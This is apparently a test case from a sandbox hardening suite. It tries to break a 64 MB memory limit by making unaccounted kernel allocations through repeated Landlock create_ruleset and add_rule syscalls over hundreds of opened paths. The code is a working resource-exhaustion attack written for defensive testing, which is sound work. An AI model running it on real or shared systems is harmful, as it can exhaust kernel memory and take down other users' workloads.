# attack: fill the disk's share of the memory with Landlock rules in the kernel
# class: resources
# layer: memory_limit
# limits: memory=64, disk=512
# raised: memory=512, disk=512
# needs: root
# fresh: yes
# expect: held or out_of_memory
# timeout: 40

# Each takes 64 bytes of the kernel's, and a pair more for the tree.
RULE, WANTED = 64, 104 << 20
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
places = []
for folder, folders, files in os.walk("/usr"):
    for name in (folders + files)[: 600 - len(places)]:
        try:
            places.append(os.open(os.path.join(folder, name), os.O_PATH | os.O_NOFOLLOW))
        except OSError:
            pass
    if len(places) >= 600:
        break
handled = ctypes.create_string_buffer(struct.pack("Q", 1 << 2))
rules = [ctypes.create_string_buffer(struct.pack("<Qi", 1 << 2, fd)) for fd in places]
made, end = 0, time.monotonic() + 30
while made * RULE < WANTED and time.monotonic() < end:
    ruleset, _ = call(444, handled, 8, 0)
    if ruleset < 0:
        break
    made += sum(libc.syscall(445, ruleset, 1, rule, 0) == 0 for rule in rules)
time.sleep(0.3)
verdict(made * RULE >= WANTED, made, "rules in", len(places), "places")
